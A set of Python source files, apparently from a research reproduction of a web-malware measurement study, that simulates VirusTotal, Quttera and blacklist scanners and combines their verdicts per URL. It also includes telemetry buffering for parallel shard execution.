    STAGE_BLACKLISTS,
    STAGE_ENGINE_PREFIX,
    STAGE_SANDBOX,
    STAGE_STATICJS,
    STAGE_TOOL_PREFIX,
    StageRecord,
    VerdictProvenance,
)
from ..simweb.url import Url
from .base import ScanReport, Submission, stable_unit
from .blacklists import BlacklistSet
from .quttera import QutteraSim
from .virustotal import VirusTotalSim

__all__ = ["UrlVerdict", "UrlVerdictService"]


@dataclass
class UrlVerdict:
    """Combined verdict for one URL."""

    url: str
    malicious: bool
    vt_report: Optional[ScanReport] = None
    quttera_report: Optional[ScanReport] = None
    blacklist_hits: List[str] = field(default_factory=list)
    labels: List[str] = field(default_factory=list)
    content_category: str = ""
    #: the multi-list threshold the issuing service applied
    min_blacklist_hits: int = 2
    #: the flight-recorder decision chain, when the issuing service ran
    #: with ``record_provenance=True`` (scan-side stages only; the
    #: pipeline prepends crawl/redirect stages from its dataset)
    provenance: Optional[VerdictProvenance] = None

    @property
    def blacklisted(self) -> bool:
        return len(self.blacklist_hits) >= self.min_blacklist_hits


#: deterministic simulated base cost per provenance stage kind (seconds);
#: jittered ±25% keyed on (stage, url) so shard timelines stay varied
#: without a live clock — parallel runs reproduce these bit for bit
_STAGE_BASE_SECONDS = {
    STAGE_STATICJS: 0.005,
    STAGE_SANDBOX: 0.06,
    "sandbox_skipped": 0.002,
    "engine": 0.002,
    "tool": 0.05,
    STAGE_BLACKLISTS: 0.001,
    STAGE_AGGREGATE: 0.0005,
}


def _stage_seconds(stage: str, url: str, base_key: Optional[str] = None) -> float:
    base = _STAGE_BASE_SECONDS[base_key if base_key is not None else stage]
    return base * (0.75 + 0.5 * stable_unit("provenance", stage, url))


class UrlVerdictService:
    """Scans URLs/files with VT + Quttera + blacklists and combines."""

    def __init__(
        self,
        virustotal: VirusTotalSim,
        quttera: QutteraSim,
        blacklists: BlacklistSet,
        min_blacklist_hits: int = 2,
        submit_files: bool = True,
        observer: Optional[object] = None,
        static_prefilter: bool = True,
        record_provenance: bool = False,
        compile_cache: Optional[object] = None,
        js_backend: Optional[str] = None,
    ) -> None:
        self.virustotal = virustotal
        self.quttera = quttera
        self.blacklists = blacklists
        self.min_blacklist_hits = min_blacklist_hits
        #: the footnote-1 mitigation: submit downloaded page files rather
        #: than bare URLs (set False for the cloaking ablation)
        self.submit_files = submit_files
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks)
        self.observer = observer
        #: gate for the repro.staticjs sandbox pre-filter on shared scans
        self.static_prefilter = static_prefilter
        #: attach a :class:`VerdictProvenance` decision chain to every
        #: verdict (the per-URL flight recorder; ~free, but off by
        #: default so unobserved runs build no records at all)
        self.record_provenance = record_provenance
        #: optional :class:`repro.jsengine.CompileCache`, pipeline-scoped
        #: and *shared with every shard clone* — the lock is inside the
        #: cache, so the hit rate (and the compile work saved) does not
        #: depend on the worker count
        self.compile_cache = compile_cache
        #: JS sandbox backend ("ast" or "vm") for the shared analysis
        #: pass; propagated to shard clones so every worker executes
        #: scripts the same way
        self.js_backend = js_backend

    def shard_clone(self, observer: Optional[object] = None) -> "UrlVerdictService":
        """A clone safe to run on one executor shard's worker thread.

        The blacklists are shared (read-only lookups); the VT/Quttera
        stacks are rebuilt *without* HTTP clients, so a shard can only
        process file submissions — URL submissions fetch through the
        stateful simulated server and must stay on the ordered serial
        lane (see :mod:`repro.scanexec`).  ``observer`` is typically a
        per-shard buffer replayed deterministically after the join.
        """
        return UrlVerdictService(
            virustotal=VirusTotalSim(observer=observer,
                                     static_prefilter=self.static_prefilter,
                                     compile_cache=self.compile_cache,
                                     js_backend=self.js_backend),
            quttera=QutteraSim(observer=observer,
                               static_prefilter=self.static_prefilter,
                               compile_cache=self.compile_cache,
                               js_backend=self.js_backend),
            blacklists=self.blacklists,
            min_blacklist_hits=self.min_blacklist_hits,
            submit_files=self.submit_files,
            observer=observer,
            static_prefilter=self.static_prefilter,
            record_provenance=self.record_provenance,
            compile_cache=self.compile_cache,
            js_backend=self.js_backend,
        )

    def verdict(
        self,
        url: str,
        content: Optional[bytes] = None,
        content_type: str = "text/html",
        final_url: Optional[str] = None,
    ) -> UrlVerdict:
        """Combined verdict; ``content`` is the crawler's saved copy."""
        from .heuristics import _frame

        with _frame(self.observer, "verdict"):
            if content is not None and self.submit_files:
                # one shared analysis: the tools disagree via their engines
                # and thresholds, not via duplicated sandbox runs
                from .heuristics import analyze_content

                analysis = analyze_content(content, content_type, url,
                                           observer=self.observer,
                                           static_prefilter=self.static_prefilter,
                                           compile_cache=self.compile_cache,
                                           js_backend=self.js_backend)
                submission = Submission(
                    url=url, content=content, content_type=content_type,
                    final_url=final_url, analysis=analysis,
                )
                vt = self.virustotal.scan(submission)
                quttera = self.quttera.scan(submission)
            else:
                analysis = None
                vt = self.virustotal.scan(Submission(url=url))
                quttera = self.quttera.scan(Submission(url=url))

            parsed = Url.try_parse(url)
            hits = self.blacklists.hits(parsed) if parsed is not None else []
            blacklisted = len(hits) >= self.min_blacklist_hits

            observer = self.observer
            if observer is not None:
                # one scan unit per engine verdict plus the three
                # aggregating tools (VT, Quttera, blacklists)
                observer.work("detect.scan_units", len(vt.engines) + 3)
                if analysis is not None and analysis.static_redirect_targets:
                    # provenance-only signal: statically resolved
                    # navigation/iframe targets never touch the verdict
                    observer.count("scan.static.redirect_targets",
                                   len(analysis.static_redirect_targets))
                for result in vt.engines:
                    if result.detected:
                        observer.count("scan.engine.detected", engine=result.engine)
                if hits:
                    observer.count("scan.blacklist.hits", len(hits))
                for tool, flagged in (("virustotal", vt.malicious),
                                      ("quttera", quttera.malicious),
                                      ("blacklists", blacklisted)):
                    if flagged:
                        observer.count("scan.tool.malicious", tool=tool)

        labels = vt.merged_labels() + [
            label for label in quttera.labels if label not in vt.labels
        ]
        if blacklisted:
            labels.append("Blacklist.MultiList")
        malicious = vt.malicious or quttera.malicious or blacklisted
        provenance: Optional[VerdictProvenance] = None
        if self.record_provenance:
            provenance = self._build_provenance(
                url, malicious, analysis, vt, quttera, hits, blacklisted)
            if observer is not None:
                observer.count("provenance.records")
        return UrlVerdict(
            url=url,
            malicious=malicious,
            vt_report=vt,
            quttera_report=quttera,
            blacklist_hits=hits,
            labels=labels,
            content_category=vt.details.get("category", ""),
            min_blacklist_hits=self.min_blacklist_hits,
            provenance=provenance,
        )

    # ------------------------------------------------------------------
    def _build_provenance(self, url: str, malicious: bool,
                          analysis: Optional[object],
                          vt: ScanReport, quttera: ScanReport,
                          hits: List[str], blacklisted: bool) -> VerdictProvenance:
        """Assemble the scan-side decision chain for one URL.

        Stage durations are deterministic functions of (stage, url) —
        simulated service costs, never wall-clock — so the provenance of
        a sharded parallel run is bit-identical to the serial run's.
        """
        stages: List[StageRecord] = []

        if analysis is not None:
            static = analysis.static_evidence()
            stages.append(StageRecord(
                name=STAGE_STATICJS,
                outcome=("benign-skip" if static["sandbox_skipped"]
                         else ("findings" if static["findings"] else "clean")),
                duration=_stage_seconds(STAGE_STATICJS, url),
                evidence=static,
            ))
            sandbox = analysis.sandbox_evidence()
            stages.append(StageRecord(
                name=STAGE_SANDBOX,
                outcome="skipped" if sandbox["skipped"] else "executed",
                duration=_stage_seconds(
                    STAGE_SANDBOX, url,
                    base_key="sandbox_skipped" if sandbox["skipped"] else None),
                evidence=sandbox,
            ))

        for result in vt.engines:
            stages.append(StageRecord(
                name=STAGE_ENGINE_PREFIX + result.engine,
                outcome="detected" if result.detected else "clean",
                duration=_stage_seconds(
                    STAGE_ENGINE_PREFIX + result.engine, url, base_key="engine"),
                evidence={"label": result.label} if result.label else {},
            ))
        for tool, report in (("virustotal", vt), ("quttera", quttera)):
            stages.append(StageRecord(
                name=STAGE_TOOL_PREFIX + tool,
                outcome="malicious" if report.malicious else "clean",
                duration=_stage_seconds(STAGE_TOOL_PREFIX + tool, url,
                                        base_key="tool"),
                evidence=report.provenance_evidence(),
            ))
        stages.append(StageRecord(
            name=STAGE_BLACKLISTS,
            outcome="blacklisted" if blacklisted else ("hits" if hits else "clean"),
            duration=_stage_seconds(STAGE_BLACKLISTS, url),
            evidence={"hits": list(hits), "threshold": self.min_blacklist_hits},
        ))
        flagged_by = [tool for tool, flag in (
            ("virustotal", vt.malicious), ("quttera", quttera.malicious),
            ("blacklists", blacklisted)) if flag]
        stages.append(StageRecord(
            name=STAGE_AGGREGATE,
            outcome="malicious" if malicious else "benign",
            duration=_stage_seconds(STAGE_AGGREGATE, url),
            evidence={"flagged_by": flagged_by},
        ))
        return VerdictProvenance(url=url, malicious=malicious, stages=stages)
