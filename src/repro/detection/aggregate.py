"""Aggregate URL verdicts across VirusTotal, Quttera, and blacklists.

The study labels a URL malicious when the malware detection tools flag
it; blacklist membership (on 2+ lists) independently marks a domain
malicious.  :class:`UrlVerdictService` is the single point the crawler
pipeline calls per URL, implementing the cloaking mitigation: page
content saved by the crawler is submitted as a *file*, so scanners see
what the victim's browser saw.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

from ..simweb.url import Url
from .base import ScanReport, Submission
from .blacklists import BlacklistSet
from .quttera import QutteraSim
from .virustotal import VirusTotalSim

__all__ = ["UrlVerdict", "UrlVerdictService"]


@dataclass
class UrlVerdict:
    """Combined verdict for one URL."""

    url: str
    malicious: bool
    vt_report: Optional[ScanReport] = None
    quttera_report: Optional[ScanReport] = None
    blacklist_hits: List[str] = field(default_factory=list)
    labels: List[str] = field(default_factory=list)
    content_category: str = ""
    #: the multi-list threshold the issuing service applied
    min_blacklist_hits: int = 2

    @property
    def blacklisted(self) -> bool:
        return len(self.blacklist_hits) >= self.min_blacklist_hits


class UrlVerdictService:
    """Scans URLs/files with VT + Quttera + blacklists and combines."""

    def __init__(
        self,
        virustotal: VirusTotalSim,
        quttera: QutteraSim,
        blacklists: BlacklistSet,
        min_blacklist_hits: int = 2,
        submit_files: bool = True,
        observer: Optional[object] = None,
        static_prefilter: bool = True,
    ) -> None:
        self.virustotal = virustotal
        self.quttera = quttera
        self.blacklists = blacklists
        self.min_blacklist_hits = min_blacklist_hits
        #: the footnote-1 mitigation: submit downloaded page files rather
        #: than bare URLs (set False for the cloaking ablation)
        self.submit_files = submit_files
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks)
        self.observer = observer
        #: gate for the repro.staticjs sandbox pre-filter on shared scans
        self.static_prefilter = static_prefilter

    def shard_clone(self, observer: Optional[object] = None) -> "UrlVerdictService":
        """A clone safe to run on one executor shard's worker thread.

        The blacklists are shared (read-only lookups); the VT/Quttera
        stacks are rebuilt *without* HTTP clients, so a shard can only
        process file submissions — URL submissions fetch through the
        stateful simulated server and must stay on the ordered serial
        lane (see :mod:`repro.scanexec`).  ``observer`` is typically a
        per-shard buffer replayed deterministically after the join.
        """
        return UrlVerdictService(
            virustotal=VirusTotalSim(observer=observer,
                                     static_prefilter=self.static_prefilter),
            quttera=QutteraSim(observer=observer,
                               static_prefilter=self.static_prefilter),
            blacklists=self.blacklists,
            min_blacklist_hits=self.min_blacklist_hits,
            submit_files=self.submit_files,
            observer=observer,
            static_prefilter=self.static_prefilter,
        )

    def verdict(
        self,
        url: str,
        content: Optional[bytes] = None,
        content_type: str = "text/html",
        final_url: Optional[str] = None,
    ) -> UrlVerdict:
        """Combined verdict; ``content`` is the crawler's saved copy."""
        if content is not None and self.submit_files:
            # one shared analysis: the tools disagree via their engines
            # and thresholds, not via duplicated sandbox runs
            from .heuristics import analyze_content

            analysis = analyze_content(content, content_type, url,
                                       observer=self.observer,
                                       static_prefilter=self.static_prefilter)
            submission = Submission(
                url=url, content=content, content_type=content_type,
                final_url=final_url, analysis=analysis,
            )
            vt = self.virustotal.scan(submission)
            quttera = self.quttera.scan(submission)
        else:
            vt = self.virustotal.scan(Submission(url=url))
            quttera = self.quttera.scan(Submission(url=url))

        parsed = Url.try_parse(url)
        hits = self.blacklists.hits(parsed) if parsed is not None else []
        blacklisted = len(hits) >= self.min_blacklist_hits

        observer = self.observer
        if observer is not None:
            for result in vt.engines:
                if result.detected:
                    observer.count("scan.engine.detected", engine=result.engine)
            if hits:
                observer.count("scan.blacklist.hits", len(hits))
            for tool, flagged in (("virustotal", vt.malicious),
                                  ("quttera", quttera.malicious),
                                  ("blacklists", blacklisted)):
                if flagged:
                    observer.count("scan.tool.malicious", tool=tool)

        labels = vt.merged_labels() + [
            label for label in quttera.labels if label not in vt.labels
        ]
        if blacklisted:
            labels.append("Blacklist.MultiList")
        return UrlVerdict(
            url=url,
            malicious=vt.malicious or quttera.malicious or blacklisted,
            vt_report=vt,
            quttera_report=quttera,
            blacklist_hits=hits,
            labels=labels,
            content_category=vt.details.get("category", ""),
            min_blacklist_hits=self.min_blacklist_hits,
        )
