"""Simulated VirusTotal: multi-engine aggregation service.

Mirrors how the paper used the real service (Section III-B): submissions
go in as URLs or as uploaded files; the report aggregates the verdicts
of the whole engine pool.  URL submissions are fetched by the service
itself **without a browser referrer**, which is what cloaked sites
discriminate on — the paper's footnote 1 mitigation (downloading pages
locally and uploading the files) is reproduced by file submissions.

The service also reports a content category for the URL's site (used by
Figure 7), inferred from the page's visible topic vocabulary — never
from generator ground truth.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from ..httpsim import SimHttpClient
from ..simweb.categories import CATEGORY_TOPICS
from .base import DeprecatedScanShims, ScanReport, Submission
from .engines import SimulatedEngine, default_engine_pool
from .heuristics import ContentAnalysis, analyze_content

__all__ = ["VirusTotalSim"]


class VirusTotalSim(DeprecatedScanShims):
    """The VirusTotal-like aggregator.

    Parameters
    ----------
    client:
        HTTP client used to fetch URL submissions (no referrer — the
        scanner's own fetch, susceptible to cloaking).
    engines:
        Engine pool; defaults to :func:`default_engine_pool`.
    positives_threshold:
        Minimum engine detections for the aggregate ``malicious`` verdict
        (the paper treats multi-engine agreement as the signal).
    """

    name = "VirusTotal"

    def __init__(
        self,
        client: Optional[SimHttpClient] = None,
        engines: Optional[List[SimulatedEngine]] = None,
        positives_threshold: int = 2,
        observer: Optional[object] = None,
        static_prefilter: bool = True,
        compile_cache: Optional[object] = None,
        js_backend: Optional[str] = None,
    ) -> None:
        self.client = client
        self.engines = engines if engines is not None else default_engine_pool(observer)
        self.positives_threshold = positives_threshold
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks);
        #: threaded into the JS sandbox for eval-depth/op-count gauges
        self.observer = observer
        #: run the repro.staticjs pass and skip the sandbox for pages
        #: whose scripts are provably side-effect-free
        self.static_prefilter = static_prefilter
        #: optional :class:`repro.jsengine.CompileCache` shared across
        #: the run so templated scripts compile once
        self.compile_cache = compile_cache
        #: JS sandbox backend ("ast" or "vm"); None = resolve from env
        self.js_backend = js_backend
        self._url_cache: Dict[str, ScanReport] = {}

    # ------------------------------------------------------------------
    def scan(self, submission: Submission) -> ScanReport:
        """Scan a URL, an uploaded file, or a pre-analyzed submission."""
        if submission.analysis is not None:
            return self._scan_analysis(submission, submission.analysis)
        if submission.is_file_scan:
            return self._scan_analysis(
                submission,
                analyze_content(submission.content or b"", submission.content_type,
                                submission.url, observer=self.observer,
                                static_prefilter=self.static_prefilter,
                                compile_cache=self.compile_cache,
                                js_backend=self.js_backend),
            )
        return self._scan_fetched(submission.url)

    def _scan_fetched(self, url: str) -> ScanReport:
        """URL submission: the service fetches the URL itself."""
        cached = self._url_cache.get(url)
        if cached is not None:
            return cached
        if self.client is None:
            raise RuntimeError("VirusTotalSim needs a client for URL submissions")
        result = self.client.fetch(url)  # no referrer: cloaking applies
        submission = Submission(
            url=url,
            content=result.response.body,
            content_type=result.response.content_type,
            final_url=result.final_url,
        )
        analysis = analyze_content(submission.content or b"", submission.content_type,
                                   url, observer=self.observer,
                                   static_prefilter=self.static_prefilter,
                                   compile_cache=self.compile_cache,
                                   js_backend=self.js_backend)
        report = self._scan_analysis(submission, analysis)
        if result.redirected:
            report.details["final_url"] = result.final_url
            report.details["redirects"] = str(result.redirect_count)
        self._url_cache[url] = report
        return report

    # ------------------------------------------------------------------
    def _scan_analysis(self, submission: Submission, analysis: ContentAnalysis) -> ScanReport:
        results = [engine.scan(analysis, submission.sha256) for engine in self.engines]
        positives = sum(1 for r in results if r.detected)
        report = ScanReport(
            tool=self.name,
            url=submission.url,
            malicious=positives >= self.positives_threshold,
            engines=results,
            details={
                "positives": str(positives),
                "total": str(len(results)),
                "kind": analysis.kind,
                "category": self.categorize_content(submission.text) or "",
            },
        )
        report.labels = report.merged_labels()
        return report

    # ------------------------------------------------------------------
    @staticmethod
    def categorize_content(text: str) -> Optional[str]:
        """Infer the site's content category from its topic vocabulary.

        VirusTotal reports website categories alongside verdicts; our
        version recovers them from the page text (Figure 7 input).
        """
        if not text:
            return None
        lowered = text.lower()
        best: Optional[str] = None
        best_hits = 0
        for category, topics in CATEGORY_TOPICS.items():
            hits = sum(lowered.count(topic) for topic in topics)
            if hits > best_hits:
                best_hits = hits
                best = category
        return best
