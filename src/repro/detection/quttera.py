"""Simulated Quttera: deep heuristic web-malware scanner.

The paper relies on Quttera for *detailed* reports: it "can detect
malicious hidden iframe elements, malicious re-directs, malvertising,
JavaScript exploits ... [and] malicious JavaScript code that has been
obfuscated" (Section III-B).  Our version runs the full heuristic stack
(static parse, de-obfuscation, sandboxed execution, SWF decompilation)
and emits a structured threat report with severities and evidence
snippets — the drill-down analyses in Sections IV-V consume these.

Quttera has no trusted-host whitelist, so structurally suspicious but
benign artifacts (the Google OAuth relay frame) are flagged: the
organic false positives of Section V-E.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from ..httpsim import SimHttpClient
from .base import DeprecatedScanShims, ScanReport, Submission
from .heuristics import ContentAnalysis, analyze_content

__all__ = ["QutteraThreat", "QutteraSim"]

#: severity levels in Quttera's vocabulary
_MALICIOUS = "malicious"
_SUSPICIOUS = "suspicious"


@dataclass
class QutteraThreat:
    """One threat entry in a Quttera report."""

    name: str
    severity: str
    evidence: str = ""


class QutteraSim(DeprecatedScanShims):
    """Heuristic scanner producing detailed threat reports."""

    name = "Quttera"

    def __init__(self, client: Optional[SimHttpClient] = None,
                 observer: Optional[object] = None,
                 static_prefilter: bool = True,
                 compile_cache: Optional[object] = None,
                 js_backend: Optional[str] = None) -> None:
        self.client = client
        #: optional :class:`repro.obs.RunObserver` (None = no-op hooks)
        self.observer = observer
        #: run the repro.staticjs pass before any sandbox execution
        self.static_prefilter = static_prefilter
        #: optional :class:`repro.jsengine.CompileCache` shared across
        #: the run so templated scripts compile once
        self.compile_cache = compile_cache
        #: JS sandbox backend ("ast" or "vm"); None = resolve from env
        self.js_backend = js_backend

    # ------------------------------------------------------------------
    def scan(self, submission: Submission) -> ScanReport:
        """Scan a URL, an uploaded file, or a pre-analyzed submission."""
        if submission.analysis is not None:
            return self._report_from_analysis(submission, submission.analysis)
        if not submission.is_file_scan:
            if self.client is None:
                raise RuntimeError("QutteraSim needs a client for URL submissions")
            result = self.client.fetch(submission.url)  # referrer-less fetch
            submission = Submission(
                url=submission.url,
                content=result.response.body,
                content_type=result.response.content_type,
                final_url=result.final_url,
            )
        analysis = analyze_content(
            submission.content or b"", submission.content_type, submission.url,
            observer=self.observer, static_prefilter=self.static_prefilter,
            compile_cache=self.compile_cache, js_backend=self.js_backend,
        )
        return self._report_from_analysis(submission, analysis)

    def _report_from_analysis(self, submission: Submission, analysis: ContentAnalysis) -> ScanReport:
        threats = self._threats(analysis)
        if self.observer is not None:
            for threat in threats:
                self.observer.count("scan.quttera.threats", severity=threat.severity)
        malicious = any(t.severity == _MALICIOUS for t in threats)
        suspicious_count = sum(1 for t in threats if t.severity == _SUSPICIOUS)
        report = ScanReport(
            tool=self.name,
            url=submission.url,
            malicious=malicious or suspicious_count >= 2,
            labels=[t.name for t in threats],
            details={
                "threats": str(len(threats)),
                "verdict": _MALICIOUS if malicious else (_SUSPICIOUS if threats else "clean"),
            },
        )
        report.details["threat_report"] = "; ".join(
            "%s[%s]" % (t.name, t.severity) for t in threats
        )
        return report

    # ------------------------------------------------------------------
    def _threats(self, analysis: ContentAnalysis) -> List[QutteraThreat]:
        threats: List[QutteraThreat] = []
        for finding in analysis.hidden_iframes:
            severity = _MALICIOUS
            # no whitelist, so trusted platform frames are still flagged —
            # but only as suspicious (Section V-E false positives need a
            # second signal to tip the page verdict)
            if finding.trusted_host:
                severity = _SUSPICIOUS
            threats.append(
                QutteraThreat(
                    name="hidden-iframe" if not finding.injected_by_js else "js-injected-iframe",
                    severity=severity,
                    evidence=finding.src[:120],
                )
            )
        if analysis.obfuscation_layers >= 1:
            threats.append(
                QutteraThreat(
                    name="obfuscated-javascript",
                    severity=_MALICIOUS if analysis.obfuscation_layers >= 2 else _SUSPICIOUS,
                    evidence="layers=%d" % analysis.obfuscation_layers,
                )
            )
        if analysis.redirect_stub:
            threats.append(
                QutteraThreat(
                    name="malicious-redirect",
                    severity=_MALICIOUS,
                    evidence=analysis.redirect_target[:120],
                )
            )
        if analysis.download_triggers or analysis.deceptive_download_bar:
            threats.append(
                QutteraThreat(
                    name="deceptive-download",
                    severity=_MALICIOUS,
                    evidence=(analysis.download_triggers or ["install-bar"])[0][:120],
                )
            )
        if analysis.kind == "flash" and analysis.flash_score >= 0.5:
            threats.append(
                QutteraThreat(
                    name="malicious-flash-externalinterface",
                    severity=_MALICIOUS,
                    evidence=",".join(analysis.external_interface_calls)[:120],
                )
            )
        if analysis.fingerprinting_listeners >= 2 and analysis.beacons:
            threats.append(
                QutteraThreat(
                    name="behaviour-fingerprinting",
                    severity=_SUSPICIOUS,
                    evidence=analysis.beacons[0][:120],
                )
            )
        if analysis.kind == "executable" and analysis.executable_signature_hit:
            threats.append(
                QutteraThreat(name="malicious-executable", severity=_MALICIOUS)
            )
        if analysis.kind == "pdf":
            if analysis.pdf_auto_executes:
                threats.append(QutteraThreat(
                    name="pdf-openaction-javascript", severity=_MALICIOUS,
                    evidence=(analysis.navigations or analysis.download_triggers or ["auto-js"])[0][:120],
                ))
            if analysis.pdf_malformed and analysis.pdf_embedded_js:
                threats.append(QutteraThreat(name="malformed-pdf", severity=_MALICIOUS))
            elif analysis.pdf_malformed:
                threats.append(QutteraThreat(name="malformed-pdf", severity=_SUSPICIOUS))
        if analysis.popups:
            threats.append(
                QutteraThreat(name="popup-spam", severity=_SUSPICIOUS, evidence=analysis.popups[0][:120])
            )
        return threats
