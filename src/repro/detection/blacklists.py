"""Third-party domain blacklists.

The paper consults six public blacklists — URLBlacklist, Shallalist,
Google Safe Browsing, SquidGuard MESD, Malware Domain List, and Zeus
Tracker — and, because "blacklists are updated infrequently, they may
contain false positives", labels a domain malicious **only if it is
present in multiple blacklists** (Section III-B).

Each simulated blacklist is an independently-sampled snapshot of the
"known bad" population with its own coverage rate (how much of the bad
population it lists), staleness rate (benign domains still listed from a
past life), and scope (some lists only track certain threat types —
Zeus Tracker is a botnet C2 list and covers little of the web-malware
population).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Iterable, List, Sequence, Set, Tuple

from ..simweb.url import Url

__all__ = ["Blacklist", "BlacklistSet", "BLACKLIST_PROFILES", "build_blacklists"]


@dataclass
class Blacklist:
    """One blacklist snapshot: a set of registrable domains."""

    name: str
    domains: Set[str] = field(default_factory=set)

    def contains_url(self, url: Url) -> bool:
        return url.registrable_domain in self.domains or url.host in self.domains

    def contains_domain(self, domain: str) -> bool:
        return domain in self.domains

    def __len__(self) -> int:
        return len(self.domains)


#: (name, coverage of the curated bad population, staleness/FP rate)
BLACKLIST_PROFILES: Tuple[Tuple[str, float, float], ...] = (
    ("URLBlacklist", 0.80, 0.015),
    ("Shallalist", 0.70, 0.020),
    ("GoogleSafeBrowsing", 0.90, 0.003),
    ("SquidGuardMESD", 0.60, 0.025),
    ("MalwareDomainList", 0.75, 0.008),
    ("ZeusTracker", 0.15, 0.002),
)


class BlacklistSet:
    """All blacklists plus the paper's multi-list labeling rule."""

    def __init__(self, blacklists: Sequence[Blacklist]) -> None:
        self.blacklists: List[Blacklist] = list(blacklists)

    def hits(self, url_or_domain) -> List[str]:
        """Names of the blacklists listing this URL/domain."""
        if isinstance(url_or_domain, Url):
            domain = url_or_domain.registrable_domain
        else:
            domain = str(url_or_domain)
        return [bl.name for bl in self.blacklists if bl.contains_domain(domain)]

    def hit_count(self, url_or_domain) -> int:
        return len(self.hits(url_or_domain))

    def is_blacklisted(self, url_or_domain, min_hits: int = 2) -> bool:
        """The paper's rule: malicious only when on ``min_hits``+ lists."""
        return self.hit_count(url_or_domain) >= min_hits

    def __iter__(self):
        return iter(self.blacklists)

    def __len__(self) -> int:
        return len(self.blacklists)


def build_blacklists(
    known_bad_domains: Iterable[str],
    benign_domains: Iterable[str],
    rng: random.Random,
    profiles: Sequence[Tuple[str, float, float]] = BLACKLIST_PROFILES,
    guaranteed_multi_listed: Iterable[str] = (),
) -> BlacklistSet:
    """Sample blacklist snapshots from the populations.

    ``known_bad_domains`` is the *curated* bad population — domains that
    have come to blacklist maintainers' attention (in our web: sites the
    generator marked as established bad hosts; freshly-minted malicious
    sites are typically NOT yet listed, which is why the paper needed
    content scanners at all).

    ``guaranteed_multi_listed`` domains are seeded into the three
    highest-coverage lists, modelling long-notorious hosts such as the
    paper's luckyleap.net / visadd.com examples.
    """
    bad = list(known_bad_domains)
    benign = list(benign_domains)
    blacklists: List[Blacklist] = []
    for name, coverage, staleness in profiles:
        snapshot: Set[str] = set()
        for domain in bad:
            if rng.random() < coverage:
                snapshot.add(domain)
        stale_count = int(len(benign) * staleness)
        if benign and stale_count:
            snapshot.update(rng.sample(benign, min(stale_count, len(benign))))
        blacklists.append(Blacklist(name=name, domains=snapshot))

    ranked = sorted(
        range(len(profiles)), key=lambda i: profiles[i][1], reverse=True
    )[:3]
    for domain in guaranteed_multi_listed:
        for index in ranked:
            blacklists[index].domains.add(domain)
    return BlacklistSet(blacklists)
