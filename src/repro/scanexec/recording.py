"""Per-shard observer buffering for deterministic telemetry merges.

The :class:`~repro.obs.metrics.MetricsRegistry` is deliberately
lock-free, so worker threads must never write to the run observer
directly.  Each shard instead records its telemetry into a thread-
confined :class:`RecordingObserver`; after the pool joins, the executor
replays every buffer into the real observer *in shard-index order* on
the main thread.  Counter and histogram totals are order-independent
sums, and the only gauges on the scan path are high-water marks
(``gauge_max``), so the replayed registry is value-identical to a
serial run.
"""

from __future__ import annotations

from contextlib import contextmanager
from typing import Iterator, List, Optional, Tuple

__all__ = ["RecordingObserver"]

#: one buffered call: (method, name, value, labels/fields)
_Op = Tuple[str, str, float, Tuple[Tuple[str, object], ...]]


class RecordingObserver:
    """Observer-compatible buffer, confined to one shard's worker.

    Implements the :class:`~repro.obs.observer.RunObserver` hook surface
    the scan call tree uses (``count`` / ``gauge_set`` / ``gauge_max`` /
    ``observe`` / ``event`` / ``span``).  Spans yield ``None`` — worker
    wall-time is accounted by the executor's shard stats, not by
    interleaved tracer writes.
    """

    def __init__(self) -> None:
        self.ops: List[_Op] = []

    def __bool__(self) -> bool:
        return True

    # -- buffered hooks ------------------------------------------------------
    def count(self, name: str, amount: float = 1.0, **labels: object) -> None:
        self.ops.append(("count", name, amount, tuple(labels.items())))

    def gauge_set(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("gauge_set", name, value, tuple(labels.items())))

    def gauge_max(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("gauge_max", name, value, tuple(labels.items())))

    def observe(self, name: str, value: float, **labels: object) -> None:
        self.ops.append(("observe", name, value, tuple(labels.items())))

    def event(self, kind: str, **fields: object) -> None:
        self.ops.append(("event", kind, 0.0, tuple(fields.items())))

    @contextmanager
    def span(self, name: str, **attrs: object) -> Iterator[None]:
        yield None

    # -- work profiling ------------------------------------------------------
    # Buffered unconditionally (the worker cannot know whether the real
    # observer profiles); :meth:`RunObserver.work` is a no-op when it does
    # not, so replay stays free on unprofiled runs.  Because replay happens
    # in shard-index order on the main thread *inside* the executor's open
    # pipeline frames, the reconstructed frame stacks — and therefore the
    # WorkLedger — are bit-identical to a serial run.
    def work(self, kind: str, amount: float = 1.0) -> None:
        self.ops.append(("work", kind, amount, ()))

    @contextmanager
    def frame(self, name: str) -> Iterator[None]:
        self.frame_push(name)
        try:
            yield
        finally:
            self.frame_pop()

    def frame_push(self, name: str) -> None:
        self.ops.append(("frame_push", name, 0.0, ()))

    def frame_pop(self) -> None:
        self.ops.append(("frame_pop", "", 0.0, ()))

    # -- merge ---------------------------------------------------------------
    def replay(self, observer: Optional[object]) -> None:
        """Apply every buffered call to ``observer`` (main thread only)."""
        if observer is None:
            return
        for method, name, value, items in self.ops:
            kwargs = dict(items)
            if method == "count":
                observer.count(name, value, **kwargs)
            elif method == "gauge_set":
                observer.gauge_set(name, value, **kwargs)
            elif method == "gauge_max":
                observer.gauge_max(name, value, **kwargs)
            elif method == "observe":
                observer.observe(name, value, **kwargs)
            elif method == "event":
                observer.event(name, **kwargs)
            elif method == "work":
                observer.work(name, value)
            elif method == "frame_push":
                observer.frame_push(name)
            elif method == "frame_pop":
                observer.frame_pop()
