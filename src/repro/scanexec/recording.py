"""Per-shard observer buffering (moved to :mod:`repro.phasexec`).

The buffer-and-replay machinery generalised to every pipeline phase in
PR 8; this module re-exports it so existing imports keep working.
"""

from __future__ import annotations

from ..phasexec.recording import RecordingObserver

__all__ = ["RecordingObserver"]
