"""The parallel sharded scan executor.

Reproduces the paper's bottleneck phase — scanning every distinct URL
with VirusTotal + Quttera + blacklists — as a batched, fan-out workload
instead of a single-threaded loop.  Since PR 8 the executor is one
implementation of the phase-agnostic
:class:`~repro.phasexec.executor.PhaseExecutor` template; its hooks map
onto the template like so:

1. **prepare** — file submissions (the crawler's saved pages, the
   footnote-1 cloaking mitigation) are pure functions of their bytes
   and parallelise freely; URL submissions fetch through the stateful
